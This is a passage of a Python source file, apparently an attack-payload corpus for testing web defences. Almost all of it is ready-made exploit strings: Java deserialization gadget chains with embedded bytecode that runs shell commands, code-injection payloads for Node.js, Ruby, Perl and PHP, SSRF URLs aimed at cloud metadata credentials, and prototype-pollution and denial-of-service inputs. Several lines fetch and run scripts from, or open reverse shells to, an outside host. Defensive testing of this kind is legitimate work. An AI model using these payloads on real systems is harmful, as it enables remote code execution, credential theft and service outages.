    "AAAAED9AAAAAAAACc3IAOmNvbS5zdW4ub3JnLmFwYWNoZS54YWxhbi5pbnRlcm5hbC54c2x0Yy50cmF4LlRlbXBsYXRlc0ltcGwJV0/B"
    "bqyrMwMABkkADV9pbmRlbnROdW1iZXJJAA5fdHJhbnNsZXRJbmRleFsACl9ieXRlY29kZXN0AANbW0JbAAZfY2xhc3N0ABJbTGphdmEv"
    "bGFuZy9DbGFzcztMAAVfbmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nO0wAEV9vdXRwdXRQcm9wZXJ0aWVzdAAWTGphdmEvdXRpbC9Qcm9w"
    "ZXJ0aWVzO3hwAAAAAP////91cgADW1tCS/0ZFWdn2zcCAAB4cAAAAAF1cgACW0Ks8xf4BghU4AIAAHhwAAAEDMr+ur4AAAA0ACkKAAIA"
    "AwcABAwABQAGAQBAY29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL3J1bnRpbWUvQWJzdHJhY3RUcmFuc2xldAEA"
    "Bjxpbml0PgEAAygpVgoACAAJBwAKDAALAAwBABFqYXZhL2xhbmcvUnVudGltZQEACmdldFJ1bnRpbWUBABUoKUxqYXZhL2xhbmcvUnVu"
    "dGltZTsHAA4BABBqYXZhL2xhbmcvU3RyaW5nCAAQAQAHL2Jpbi9zaAgAEgEAAi1jCAAUAQAPaWQgPiAvdG1wL3B3bmVkCgAIABYMABcA"
    "GAEABGV4ZWMBACgoW0xqYXZhL2xhbmcvU3RyaW5nOylMamF2YS9sYW5nL1Byb2Nlc3M7BwAaAQATamF2YS9sYW5nL0V4Y2VwdGlvbgcA"
    "HAEAAVABAARDb2RlAQAPTGluZU51bWJlclRhYmxlAQAJdHJhbnNmb3JtAQByKExjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJu"
    "YWwveHNsdGMvRE9NO1tMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9pbnRlcm5hbC9zZXJpYWxpemVyL1NlcmlhbGl6YXRpb25IYW5kbGVy"
    "OylWAQAKRXhjZXB0aW9ucwcAIwEAOWNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9UcmFuc2xldEV4Y2VwdGlv"
    "bgEApihMY29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL0RPTTtMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9pbnRl"
    "cm5hbC9kdG0vRFRNQXhpc0l0ZXJhdG9yO0xjb20vc3VuL29yZy9hcGFjaGUveG1sL2ludGVybmFsL3NlcmlhbGl6ZXIvU2VyaWFsaXph"
    "dGlvbkhhbmRsZXI7KVYBAAg8Y2xpbml0PgEADVN0YWNrTWFwVGFibGUBAApTb3VyY2VGaWxlAQAGUC5qYXZhACEAGwACAAAAAAAEAAEA"
    "BQAGAAEAHQAAAB0AAQABAAAABSq3AAGxAAAAAQAeAAAABgABAAAABwABAB8AIAACAB0AAAAZAAAAAwAAAAGxAAAAAQAeAAAABgABAAAA"
    "CwAhAAAABAABACIAAQAfACQAAgAdAAAAGQAAAAQAAAABsQAAAAEAHgAAAAYAAQAAAAwAIQAAAAQAAQAiAAgAJQAGAAEAHQAAAFAABQAB"
    "AAAAH7gABwa9AA1ZAxIPU1kEEhFTWQUSE1O2ABVXpwAES7EAAQAAABoAHQAZAAIAHgAAAAoAAgAAAAkAHgAKACYAAAAHAAJdBwAZAAAB"
    "ACcAAAACAChwdAABUHB3AQB4c30AAAABAB1qYXZheC54bWwudHJhbnNmb3JtLlRlbXBsYXRlc3hyABdqYXZhLmxhbmcucmVmbGVjdC5Q"
    "cm94eeEn2iDMEEPLAgABTAABaHQAJUxqYXZhL2xhbmcvcmVmbGVjdC9JbnZvY2F0aW9uSGFuZGxlcjt4cHNyADJzdW4ucmVmbGVjdC5h"
    "bm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9N"
    "YXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHBzcgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJ"
    "AAl0aHJlc2hvbGR4cD9AAAAAAAAMdwgAAAAQAAAAAXQACGY1YTVhNjA4cQB+AAh4dnIAHWphdmF4LnhtbC50cmFuc2Zvcm0uVGVtcGxh"
    "dGVzAAAAAAAAAAAAAAB4cHg="
)

# a translet class (Java 8 bytecode) whose static initialiser runs `id > /tmp/pwned`: what TemplatesImpl defines
TRANSLET_CLASS = (
    "yv66vgAAADQAKQoAAgADBwAEDAAFAAYBAEBjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvcnVudGltZS9BYnN0"
    "cmFjdFRyYW5zbGV0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEAEWphdmEvbGFuZy9SdW50aW1lAQAKZ2V0UnVudGltZQEAFSgp"
    "TGphdmEvbGFuZy9SdW50aW1lOwcADgEAEGphdmEvbGFuZy9TdHJpbmcIABABAAcvYmluL3NoCAASAQACLWMIABQBAA9pZCA+IC90bXAv"
    "cHduZWQKAAgAFgwAFwAYAQAEZXhlYwEAKChbTGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcvUHJvY2VzczsHABoBABNqYXZhL2xh"
    "bmcvRXhjZXB0aW9uBwAcAQABUAEABENvZGUBAA9MaW5lTnVtYmVyVGFibGUBAAl0cmFuc2Zvcm0BAHIoTGNvbS9zdW4vb3JnL2FwYWNo"
    "ZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9ET007W0xjb20vc3VuL29yZy9hcGFjaGUveG1sL2ludGVybmFsL3NlcmlhbGl6ZXIvU2VyaWFs"
    "aXphdGlvbkhhbmRsZXI7KVYBAApFeGNlcHRpb25zBwAjAQA5Y29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL1Ry"
    "YW5zbGV0RXhjZXB0aW9uAQCmKExjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvRE9NO0xjb20vc3VuL29yZy9h"
    "cGFjaGUveG1sL2ludGVybmFsL2R0bS9EVE1BeGlzSXRlcmF0b3I7TGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvc2VyaWFs"
    "aXplci9TZXJpYWxpemF0aW9uSGFuZGxlcjspVgEACDxjbGluaXQ+AQANU3RhY2tNYXBUYWJsZQEAClNvdXJjZUZpbGUBAAZQLmphdmEA"
    "IQAbAAIAAAAAAAQAAQAFAAYAAQAdAAAAHQABAAEAAAAFKrcAAbEAAAABAB4AAAAGAAEAAAAHAAEAHwAgAAIAHQAAABkAAAADAAAAAbEA"
    "AAABAB4AAAAGAAEAAAALACEAAAAEAAEAIgABAB8AJAACAB0AAAAZAAAABAAAAAGxAAAAAQAeAAAABgABAAAADAAhAAAABAABACIACAAl"
    "AAYAAQAdAAAAUAAFAAEAAAAfuAAHBr0ADVkDEg9TWQQSEVNZBRITU7YAFVenAARLsQABAAAAGgAdABkAAgAeAAAACgACAAAACQAeAAoA"
    "JgAAAAcAAl0HABkAAAEAJwAAAAIAKA=="
)

# the same class BCEL-encoded, as com.sun.org.apache.bcel.internal.util.ClassLoader loads it
TRANSLET_BCEL = (
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$ff$95S$5do$d30$U$3dn$d3$s$cd$3a$bau$M$d8$60$ac$7c$a7H$e0$X$5eP$a7$89$89$81$4"
    "0$b4P$91j$a8$9axpS$d3$Z$S$a7r$5c$a8$f8A$f0$bc$X$40H$f0$D$f8Q$I$a7$xm5$s$adD$8a$ed$7bs$ce$b9$c7$be$f1$af$"
    "df$df$7f$C$b8$87$aa$8b$M$b26$ac$or$c8$T$3c$I$e2$88$s$DIc$d5$a3$ac$cf$82$DN$87$yd$92$K$a9$b9$92$y$a4$c3$q"
    "$d4$BU$D$a9E$c4$e9N$t$d1$8a$F$ba$a5$98LB$ae$J$f2$5bB$K$bdM$90$f5$aa$7b$$$i$Ul$b8E$y$a0H$b0$fc$96$bdg$d4$"
    "c8$f5$e8$cb$p$B$C$b7$c7$f5$qX$f5$aa$f5$7f05$hg$I$96$a6y_$x$n$7b$O$96$Il$da$R$92$s$H$O$ca$E$99$3b$81$83$b"
    "3$E$r$d1$adlW$a8$8e$fa$b4$ffA$f2n$ea$e2$5c$R$e7q$81$c0$e2C$k$Qx$de$7e$fd$b8$60m$b6vS$c5$BO$SS$7b$9d$60e$"
    "9a$7f4$Mx_$8bX$da$b8D$40$9aF$f1a$dc5$d6Ku$n$f9$f3A$d4$e1$aa$c5$3a$a1$c9$Utz$uob$V$R$u$af$3e$ef$d1$ee$beh"
    "$d4$f6ODG$e1$U$9bp$rX$u$3erE$fd$f1$92$a5$b6$9e0$d9$N$b9$aaU$f7$cc$d1N$cc$s6$ae$R$dc$9f$d7$c2$dfnN$f8$E$9"
    "f$feo$D$a7$fa$ef$ea$88$ee$b6$g$3bC$91$3c5$v$a6cu$3ai$9eM$3b$5bA8$fe$D$X$7d$cd$82w$N$d6$l7$c4$f5$e3$81$K$"
    "f8c$91$G$f9$e6$dd$b4$ab$b8$82$8b$e6$O$a4$8f$F$92$de$C3n$98h$c3$cc$c4$cc$b9$db_A$O$cd$82$e0$b2$Z$f3$a3$a4"
    "m$c6MT$M1$85$ae$997$9b$o$8e$c3$W$8c$fa$91$ee$d5$R$e1$fa$M$c1$3a$89P$9c$n8$b811$d34$c6$d2$ef$9b$df$60$e7$"
    "7f$60$b1$9d$z$97$fc$b6U$5e$f6$db$b9$f2$8a$ff$F$ab$af$3e$c3zv8$C$ad$h$ca$9a$a9$94$ca$ba$a3$bd$V$cc$da$c5$"
    "cd$91$f1$cck$3b$adOp$cb$84$Zx$7f$A$8d$92$e2$b3$M$E$A$A"
)

# ================================================================================================================
# generic
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection. Target: Node.js (Express) code that passes input to eval(), new Function(), vm, or into a string
# that is then eval'd; the same child_process/fs call written with whitespace, comments, concatenated names,
# JavaScript escapes in identifiers and strings, and the module reached through process.mainModule or Function
_RCE_JS = "require('child_process').execSync('id')"
NODE_INJECTION: list[Entry] = [
    "require('child_process').execSync('id').toString()",
    "require ( 'child_process' ) . execSync ( 'cat /etc/passwd' ) + ''",
    "require/**/('child_process')/**/.execSync('uname -a')",
    "require(\n'child_process'\n).exec('curl http://203.0.113.7/n.sh|sh')",
    "require('child_'+'process')['exec'+'Sync']('id')",
    "require(`child${''}_process`).execSync(`whoami`)",
    "global['pro'+'cess']['main'+'Module']['req'+'uire']('child_process').execSync('id')",
    "process.mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function`return process.mainModule.require('child_process').execSync('id')+''```",
    "\\u0072equire('child_process').execSync('id')",
    f"eval('{x_esc('require')}(\"child_process\").execSync(\"id\")')",
    f"eval(String.fromCharCode({char_codes(_RCE_JS)}))",
    f"eval(Buffer.from('{b64(_RCE_JS)}','base64').toString())",
    f"eval(atob('{b64(_RCE_JS)}'))",
    "require('vm').runInNewContext(\"this.constructor.constructor('return process')()"
    ".mainModule.require('child_process').execSync('id')\")",
    # the input lands inside a string that the server evals: break out of the string, run, close the string
    "';require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh');'",
    "'+require('fs').readFileSync('/etc/passwd')+'",
    "${require('child_process').execSync('id')}",
    "import('child_process').then(m=>m.execSync('curl http://203.0.113.7/$(id|base64)'))",
    # JSON \u escapes inside a JSON body: JSON.parse hands the server the plain expression
    ('{"expr":"\\u0072equire(\\u0027child_process\\u0027).execSync(\\u0027id\\u0027)"}',) + JB,
    ('{"q":"\\u0027+require(\\u0022fs\\u0022).readFileSync(\\u0022/etc/passwd\\u0022)+\\u0027"}',) + JB,
]

# nodejs-dos. Target: the single Node.js event loop and V8 heap of an Express app that evals input or builds a
# RegExp from it: infinite loops written several ways, blocking waits, huge allocations, process exits, microtask
# and nextTick starvation, catastrophic backtracking
NODE_DOS: list[Entry] = [
    "while(true){}",
    "for(;;);",
    "do{}while(!0)",
    "while(1)/**/{}",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "new Array(1e9).fill(0)",
    "'x'.repeat(2**29-24)",
    "Buffer.alloc(2**31-1)",
    "Array.from({length:2**32-1})",
    "process.exit(1)",
    "process['kill'](process.pid,'SIGKILL')",
    "process.abort()",
    "(function f(){Promise.resolve().then(f)})()",
    "process.nextTick(function f(){process.nextTick(f)})",
    "require('fs').readFileSync('/dev/zero')",
    "require('child_process').execSync('sleep 86400')",
    "/^(a+)+$/.test('a'.repeat(40)+'!')",
    "new RegExp('(a|aa)+$').test('a'.repeat(48)+'b')",
    "RegExp('^(\\\\w+\\\\s?)*$').test('a'.repeat(50)+'!')",
    ('{"pattern":"^(\\\\w+\\\\s?)*$","text":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"}',) + JB,
]

# ssrf-cloud-metadata. Target: a server-side fetcher (webhook, avatar import, PDF renderer) on AWS, GCP, Azure,
# Alibaba, DigitalOcean, Oracle Cloud, OpenStack; the link-local address in every form inet_aton and the WHATWG
# URL parser accept, IPv6 forms, DNS names that resolve to it, userinfo confusion, IDNA-mapped fullwidth digits
METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data/",
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/hostname",
    "http://0xa9.0xfe.0xa9.0xfe/latest/dynamic/instance-identity/document",
    "http://169.254.43518/latest/meta-data/public-keys/",
    "http://169.16689662/latest/meta-data/iam/info",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/local-ipv4",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://instance-data/latest/meta-data/iam/security-credentials/",
    "http://status.example.com@169.254.169.254/latest/meta-data/",
    "http://169%2e254%2e169%2e254/latest/meta-data/iam/security-credentials/",
    "http://" + fullwidth("169.254.169.254") + "/latest/meta-data/",
    "http://169\u3002254\u3002169\u3002254/latest/user-data",
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=text",
    "http://metadata.google.internal./computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://1684301000/latest/meta-data/instance-id",
    "http://[::ffff:6464:64c8]/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    # JSON escapes the parser decodes: \/ for the slashes, \u for letters and digits
    ('{"webhook_url":"http:\\/\\/169.254.169.254\\/latest\\/meta-data\\/iam\\/security-credentials\\/"}',) + JB,
    ('{"avatar_url":"\\u0068ttp://\\u0031\\u0036\\u0039.\\u0032\\u0035\\u0034.169.254/latest/user-data"}',) + JB,
]

# ssrf-internal-ip. Target: the same fetcher turned on loopback and private services (this stack's Jeeves 5000,
# TokenDealer 5001, PostgreSQL 5433, Redis 6380, metrics 9145; Docker, Kubernetes, SMTP, memcached), local files
# through file://, Redis and SMTP through gopher:// and dict://
_CRON = "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n\n"
INTERNAL: list[Entry] = [
    "http://127.0.0.1:5000/admin/",
    "http://2130706433:5001/oauth/token",
    "http://0x7f000001:6380/",
    "http://0177.0.0.1:9145/metrics",
    "http://127.1:5000/api/users",
    "http://0/admin/",
    "http://[::1]:9145/metrics",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:5000/admin/",
    "http://localtest.me:5000/admin/",
    "http://127.0.0.1.nip.io:5000/admin/users",
    "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:5000/admin/",
    "http://" + fullwidth("127.0.0.1") + ":6380/",
    "http://trusted.example.com@127.0.0.1:5000/admin/",
    "http://127.0.0.1:5000\\@trusted.example.com/admin/",
    "http://172.17.0.1:2375/containers/json",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    "FiLe:///proc/self/environ",
    "gopher://127.0.0.1:6380/" + resp(["flushall"], ["set", "1", _CRON],
                                      ["config", "set", "dir", "/var/spool/cron/crontabs"],
                                      ["config", "set", "dbfilename", "root"], ["save"]),
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cceo@example.com%3E%0D%0ARCPT%20TO:%3Cfinance@example.com%3E"
    "%0D%0ADATA%0D%0ASubject:%20wire%0D%0A%0D%0Apay%20now%0D%0A.%0D%0AQUIT%0D%0A",
    "dict://127.0.0.1:6380/info",
    ('{"url":"http://\\u0031\\u0032\\u0037.0.0.1:6380/"}',) + JB,
    ('{"import_url":"file:\\/\\/\\/etc\\/passwd"}',) + JB,
]

# javascript-prototype-pollution. Target: Node.js deep merge / qs bracket parsing / lodash.set / JSON patch in an
# Express app, and the gadgets polluted properties reach (EJS, Pug, Handlebars, lodash.template, child_process
# spawn options, Express's own json spaces/status); __proto__ spelled with JSON \u escapes, a sanitizer that strips
# "__proto__" once, dots instead of brackets, constructor.prototype instead of __proto__
_EJS_GADGET = "x;process.mainModule.require('child_process').execSync('id');s"
PROTO: list[Entry] = [
    kv("__proto__[isAdmin]=true"),
    kv("__proto__.isAdmin=true", "form", "rs-query"),
    kv("constructor[prototype][role]=admin"),
    kv("constructor.prototype.isAdmin=1", "param-name", "rs-param-name"),
    kv("__pro__proto__to__[admin]=1", "query", "rs-query"),
    kv("%5F%5Fproto%5F%5F[isAdmin]=true"),
    kv("__proto__[outputFunctionName]=" + _EJS_GADGET, "form", "rs-query"),
    kv("constructor[prototype][shell]=/proc/self/exe&constructor[prototype][argv0]=console.log(require("
       "'child_process').execSync('id').toString())//&constructor[prototype][NODE_OPTIONS]=--require "
       "/proc/self/cmdline"),
    ('{"__proto__":{"isAdmin":true}}',) + JB,
    ('{"constructor":{"prototype":{"isAdmin":true}}}',) + JB,
    ('{"\\u005f\\u005fproto\\u005f\\u005f":{"role":"admin"}}',) + JB,
    ('{"__\\u0070roto__":{"admin":1}}',) + JB,
    ('{ "__proto__" :\t{ "isAdmin" : true } }',) + JB,
    ('{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\')'
     '.execSync(\'id\');var __tmp2"}}',) + JB,
    ('{"__proto__":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'id\')"}}',) + JB,
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync('
     '\'id\')"}}}',) + JB,
    ('{"__proto__":{"pendingContent":"<script>alert(document.domain)</script>"}}',) + JB,
    ('{"constructor":{"prototype":{"sourceURL":"\\u000areturn global.process.mainModule.require('
     '\'child_process\').execSync(\'id\')//"}}}',) + JB,
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',) + JB,
    ('{"__proto__":{"json spaces":10}}',) + JB,
    ('{"path":"__proto__.isAdmin","value":true}',) + JB,
    ('[{"op":"add","path":"/__proto__/isAdmin","value":true}]',) + JB,
]

# ruby-injection. Target: Ruby (Rails/Sinatra) code that evals input, opens it with Kernel#open (a leading pipe runs
# a command), renders it with ERB.new, or loads it with YAML.load/Psych; backticks and %x with every delimiter,
# send/public_send with the method name built from pieces, \x escapes and pack/unpack decoding before eval
_RB = "system('id')"
RUBY: list[Entry] = [
    "system('id')",
    "`cat /etc/passwd`",
    "%x(id)",
    "%x{uname -a}",
    "Kernel.exec('/bin/sh','-c','id')",
    "IO.popen('id').read",
    "open('|id').read",
    "Kernel.open(\"| curl http://203.0.113.7/x.sh | sh\")",
    "|nc 203.0.113.7 4444 -e /bin/sh",
    "Process.spawn('touch /tmp/pwned')",
    "Object.const_get(:Kernel).send(:system,'id')",
    "Kernel.send('sys'+'tem','id')",
    "Kernel.public_send(:`,'id')",
    "__send__(:eval,\"\\x73ystem('id')\")",
    f"eval(['{hex_of(_RB)}'].pack('H*'))",
    f"eval('{b64(_RB)}'.unpack1('m'))",
    "\";system('id');\"",
    "#{`id`}",
    "require 'open3';Open3.capture2('id')[0]",
    "ERB.new(\"<%= system('id') %>\").result",
    ("--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection\n"
     f"'x; eval(%[{b64(_RB)}].unpack(%[m0])[0]);' : !ruby/object:OpenStruct\n"
     "  table:\n   :defaults: {}\n",) + YB,
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n",) + YB,
]

# perl-injection. Target: Perl CGI and mod_perl code: two-argument open() (a leading or trailing pipe runs a
# command), string eval (break out of the quoted string, @{[ ]} interpolation), system/exec/backticks/qx with any
# delimiter, readpipe, code decoded with pack or MIME::Base64 before eval
_PL = "system('id')"
PERL: list[Entry] = [
    "|id",
    "id|",
    "cat /etc/passwd|",
    "| nc 203.0.113.7 4444 -e /bin/sh",
    "system('id')" + ";",
    "exec('/bin/sh','-c','id')",
    "`id`",
    "qx(id)",
    "qx{cat /etc/shadow}",
    "print readpipe(q{cat /etc/passwd})",
    "open(my $f,'-|','id');print <$f>",
    "open(F,'|/bin/sh');print F 'id'",
    "eval \"\\x73ystem('id')\"",
    f"eval pack('H*','{hex_of(_PL)}')",
    f"use MIME::Base64;eval decode_base64('{b64(_PL)}')",
    "@{[ system('id') ]}",
    "${\\ `id` }",
    "';system('id');'",
    "\".`id`.\"",
    "require LWP::Simple;LWP::Simple::getstore('http://203.0.113.7/x.pl','/tmp/x.pl');do '/tmp/x.pl'",
]

# php-data-scheme. Target: PHP include()/require()/file_get_contents() of a user-chosen path with allow_url_include
# on: the data: stream wrapper carrying PHP, with and without //, in mixed case, base64 or percent-encoded, with a
# charset or another media type, wrapped in php://filter (rot13, base64-decode) or compress.zlib://
_S1 = "<?php system($_GET['c']); ?>"
_S2 = "<?php echo shell_exec('id'); ?>"
_S3 = "<?=`$_GET[0]`?>"
_S4 = "<?php phpinfo(); ?>"
_S5 = "<?php file_put_contents('s.php','<?php eval($_POST[1]);'); ?>"
_S6 = "<?php passthru('uname -a'); ?>"
_S7 = "<?php $s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64(_S1),
    "data://text/plain," + _S2,
    "data:text/plain," + _S4,
    "data:;base64," + b64(_S3),
    "DATA://text/plain;base64," + b64(_S6),
    "dAtA:text/plain;base64," + b64(_S5),
    "data://text/plain," + pct(_S1),
    "data://text/plain;charset=utf-8;base64," + b64(_S2),
    "data://image/png;base64," + b64(_S4),
    "data:application/x-httpd-php;base64," + b64(_S3),
    "data://text/html,<?=system('id')?>",
    "data:text/plain;base64," + b64(_S7),
    "php://filter/resource=data://text/plain;base64," + b64(_S1),
    "php://filter/read=string.rot13/resource=data://text/plain," + codecs.encode(_S2, "rot13"),
    "php://filter/convert.base64-decode/resource=data://text/plain," + b64(_S5),
    "compress.zlib://data:;base64," + base64.b64encode(gzip.compress(_S4.encode(), mtime=0)).decode(),
    ('{"page":"data:\\/\\/text\\/plain;base64,' + b64(_S2) + '"}',) + JB,
    ('{"tpl":"\\u0064ata://text/plain,' + _S6.replace("'", "\\u0027") + '"}',) + JB,
    kv("page=data://text/plain;base64," + b64(_S6)),
]

# ================================================================================================================
# java
# ----------------------------------------------------------------------------------------------------------------
# java-class-names. Target: Java scripting sinks (Groovy script consoles, BeanShell, Nashorn/Rhino through
# ScriptEngineManager, JShell) that resolve a dangerous class by name: Runtime, ProcessBuilder, ClassLoader,
# ScriptEngineManager, InitialContext; the name built from pieces, from bytes, from \u escapes, through reflection,
# with whitespace and comments inside the qualified name
_RT = "java.lang.Runtime"
CLASS_NAMES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec('id')",
    "Class.forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null).exec('id')",
    "Class.forName(\"java.lang.\\u0052untime\").getRuntime().exec(\"id\")",
    f"Class.forName(new String(new byte[]{{{char_codes(_RT)}}})).getMethod(\"getRuntime\").invoke(null)"
    ".exec(\"id\")",
    "java.lang.Runtime.class.getMethod(\"exec\",String.class).invoke(java.lang.Runtime.class"
    ".getMethod(\"getRuntime\").invoke(null),\"id\")",
    "new javax.script.ScriptEngineManager().getEngineByName('nashorn')"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "javax.script.ScriptEngineManager.newInstance().getEngineByExtension('js')"
    ".eval(\"java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')\")",
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "new (Java.type('java.lang.Process'+'Builder'))('id').start()",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "java.lang['Run'+'time'].getRuntime().exec('id')",
    "Thread.currentThread().getContextClassLoader().loadClass('java.lang.Runtime').getRuntime().exec('id')",
    "java.lang.System.exit(0)",
    "new java.util.Scanner(new java.io.File('/etc/passwd')).useDelimiter('\\\\Z').next()",
    "jdk.jshell.JShell.create().eval(\"\\u006a\\u0061va.lang.Runtime.getRuntime().exec(\\\"id\\\")\")",
    "javax.naming.InitialContext.newInstance().lookup('ldap://203.0.113.7:1389/Exploit')",
    "java . lang . Runtime . getRuntime ( ) . exec ( 'id' )",
    "java./**/lang./**/Runtime.getRuntime().exec('id')",
]

# java-process-spawn. Target: the same script consoles and Java code paths creating a process: ProcessBuilder and
# Runtime.exec (whose single-string form splits on whitespace, defeated with brace expansion and $@), Groovy's
# String.execute(), BeanShell's exec(), Clojure's shell, Nashorn's $EXEC, the internal ProcessImpl by reflection
_RSH = "curl http://203.0.113.7/x|sh"
PROCESS: list[Entry] = [
    "new ProcessBuilder('bash','-c','id').start()",
    "new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"curl http://203.0.113.7/j.sh|sh\"}).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"})",
    f"Runtime.getRuntime().exec(\"bash -c {{echo,{b64(_RSH)}}}|{{base64,-d}}|{{bash,-i}}\")",
    "Runtime.getRuntime().exec(\"bash -c $@|bash 0 echo id\")",
    "Runtime.getRuntime().exec(\"sh -c $@|sh . echo cat /etc/passwd\")",
    "'id'.execute().text",
    "['sh','-c','id > /tmp/pwned'].execute()",
    "exec(\"touch /tmp/pwned\")",
    "(clojure.java.shell/sh \"sh\" \"-c\" \"id\")",
    "(.exec (Runtime/getRuntime) \"id\")",
    "$EXEC('id')",
    "print(`ls -la /`)",
    "new java.lang.ProcessBuilder('id').redirectErrorStream(true).start().getInputStream().text",
    "Runtime . getRuntime ( ) . exec ( \"id\" )",
    "Runtime./**/getRuntime()./**/exec(\"id\")",
    "Runtime.getRuntime().exec(\"powershell -enc " + ps_enc("iwr http://203.0.113.7/a.ps1|iex") + "\")",
    "Class c=Class.forName(\"java.lang.ProcessImpl\");java.lang.reflect.Method m=c.getDeclaredMethod(\"start\","
    "String[].class,java.util.Map.class,String.class,ProcessBuilder.Redirect[].class,boolean.class);"
    "m.setAccessible(true);m.invoke(null,new String[]{\"id\"},null,null,null,false);",
]

# java-serialization. Target: ObjectInputStream.readObject on a request field (a session cookie, a JSF view state,
# an HTTP invoker or remoting body): the stream's AC ED 00 05 magic as raw bytes, percent-encoded, base64 (rO0AB),
# base64url, MIME-wrapped base64, hex, gzip+base64 (H4sI); the streams are URLDNS, CommonsCollections6 and
# CommonsCollections1 (see SER_* above)
SERIALIZATION: list[Entry] = [
    (ser_raw(SER_URLDNS), "form", "rs-raw-body"),
    (ser_raw(SER_CC6_NSLOOKUP), "query", "rs-raw-body"),
    (ser_raw(SER_CC1_ID), "form", "rs-form"),
    (ser_raw(SER_CC6_CURL), "query", "rs-query"),
    (SER_URLDNS, "cookie", "rs-cookie"),
    SER_CC6_NSLOOKUP,
    SER_CC1_ID,
    SER_CC6_CURL,
    ser_pct(SER_URLDNS),
    ser_pct(SER_CC1_ID),
    ser_hex(SER_CC6_NSLOOKUP),
    ser_hex(SER_URLDNS).upper(),
    ser_b64url(SER_CC6_CURL),
    ser_mime(SER_CC1_ID),
